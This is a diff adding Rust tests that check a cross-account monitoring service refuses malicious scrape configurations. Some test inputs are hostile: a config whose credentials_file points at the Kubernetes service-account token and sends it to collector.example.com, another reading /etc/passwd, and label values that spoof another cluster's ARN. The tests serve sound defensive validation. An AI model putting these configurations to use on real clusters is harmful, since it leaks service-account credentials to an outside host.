@@ -18,6 +18,17 @@ async fn an_invalid_request_fails_with_the_name_of_its_field() {
     let accounts = deployment().accounts(SOURCE, TARGET);
     let valid = accounts.pair("refused").await;
     let job = "scrape_configs:\n- job_name: a\n  authorization: {credentials_file: /etc/passwd}\n";
+    // The token of the scraper's service account would be sent to a host that the author of the request chooses.
+    let token = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+    let stolen = format!(
+        "scrape_configs:\n- job_name: a\n  authorization: {{credentials_file: {token}}}\n  static_configs: [{{targets: \
+         [collector.example.com]}}]\n"
+    );
+    let other = "arn:aws:eks:us-west-2:777777777777:cluster/other";
+    let relabelled = format!(
+        "scrape_configs:\n- job_name: a\n  kubernetes_sd_configs: [{{role: pod}}]\n  relabel_configs: \
+         [{{target_label: clusterArn, replacement: \"{other}\"}}]\n"
+    );
     for (request, message) in [
         (json!([valid]), "clusterArn"),
         (with(&valid, json!({ "clusterarn": valid["clusterArn"] })), "clusterarn"),
@@ -26,6 +37,15 @@ async fn an_invalid_request_fails_with_the_name_of_its_field() {
             "activationTimeoutMinutes",
         ),
         (with(&valid, json!({ "scrapeConfiguration": job })), "credentials_file"),
+        (
+            with(&valid, json!({ "scrapeConfiguration": stolen })),
+            "kubernetes.default.svc",
+        ),
+        (with(&valid, json!({ "scrapeConfiguration": relabelled })), "clusterArn"),
+        (
+            with(&valid, json!({ "externalLabels": { "clusterArn": other } })),
+            "externalLabels.clusterArn",
+        ),
     ] {
         assert_refused(&accounts, &request, "InvalidRequest", message).await;
     }
@@ -173,4 +193,13 @@ async fn a_role_without_our_tags_is_a_conflict_and_stays_unchanged() {
         .unwrap()
         .unwrap();
     assert_eq!(current, serde_json::from_str::<Value>(trust).unwrap());
+}
+
+/// The condition of the hub's policies denies an account outside the organization, although its stack trusts the hub.
+#[tokio::test]
+async fn a_workspace_outside_the_organization_is_refused() {
+    let accounts = deployment().accounts_outside_the_organization();
+    let request = accounts.pair("outside").await;
+    assert_refused(&accounts, &request, "AccessDenied", "sts:AssumeRole").await;
+    accounts.assert_nothing_was_created().await;
 }
